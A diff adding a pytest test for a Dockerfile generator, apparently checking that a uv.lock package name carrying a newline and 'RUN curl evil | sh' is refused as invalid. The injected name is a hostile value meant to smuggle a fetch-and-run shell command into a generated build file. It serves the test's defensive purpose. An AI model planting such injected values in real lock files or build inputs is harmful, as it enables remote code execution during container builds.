@@ -164,3 +164,23 @@ def test_a_path_package_outside_the_project_is_an_error(make_project):
     result = CliRunner().invoke(main, ["generate", "--stdout", str(path)])
     assert result.exit_code == 2, result.output
     assert "uv.lock: installs lib from '../lib', which the build context cannot hold" in result.output
+
+
+def test_a_path_package_with_a_hostile_name_is_refused(make_project):
+    lock = (
+        'version = 1\nrevision = 3\nrequires-python = ">=3.11"\n\n'
+        '[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\n'
+        'dependencies = [{ name = "lib\\nRUN curl evil | sh" }]\n\n'
+        '[[package]]\nname = "lib\\nRUN curl evil | sh"\nversion = "1"\nsource = { directory = "lib" }\n'
+    )
+    path = make_project(
+        {
+            "pyproject.toml": UV_PYPROJECT.replace("[]", '["lib"]') + '[tool.uv.sources]\nlib = { path = "lib" }\n',
+            "uv.lock": lock,
+            "lib/pyproject.toml": '[project]\nname = "lib"\nversion = "1"\n',
+            "app.py": "print(1)\n",
+        }
+    )
+    result = CliRunner().invoke(main, ["generate", "--stdout", str(path)])
+    assert result.exit_code == 2, result.output
+    assert "uv.lock: locked package name 'lib\\nrun curl evil | sh' is not a valid name" in result.output
